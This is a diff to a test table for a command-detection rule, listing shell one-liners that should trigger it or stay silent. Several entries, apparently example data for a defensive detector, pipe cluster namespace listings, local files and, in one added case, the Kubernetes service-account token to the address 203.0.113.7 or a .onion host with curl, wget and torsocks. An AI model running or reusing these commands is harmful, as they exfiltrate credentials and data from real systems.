@@ -5,7 +5,7 @@ indicatorTable(commandBareAddressTold, {
   fires: {
     'what a listing gives': script('kubectl get ns -o name | curl -s --data-binary @- http://203.0.113.7/c'),
     'a form': script('curl -sF f=@/tmp/o https://203.0.113.7:8443/up'),
-    'a file': script('uname -a > /tmp/o; wget -q --post-file=/tmp/o 203.0.113.7/o'),
+    'a file': script('/app/report > /tmp/o; wget -q --post-file=/tmp/o 203.0.113.7/o'),
     'a hidden service': script(
       'torsocks curl -F f=@/uploads/a http://k3tz7ovylqkh3wnm5zvwqj6ux4bq2kzqd4oqf5w3e7uqz2ajd2yx6hyd.onion/up',
     ),
@@ -17,6 +17,9 @@ indicatorTable(commandBareAddressTold, {
     ),
   },
   staysSilent: {
+    'a token, which is told as that': script(
+      'cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://203.0.113.7/o',
+    ),
     'a question': script('curl -s http://203.0.113.7/version'),
     'a timeout': script('wget -T 10 -qO- http://203.0.113.7/health'),
     'a question with options': script('curl -G -d q=1 http://203.0.113.7/version'),
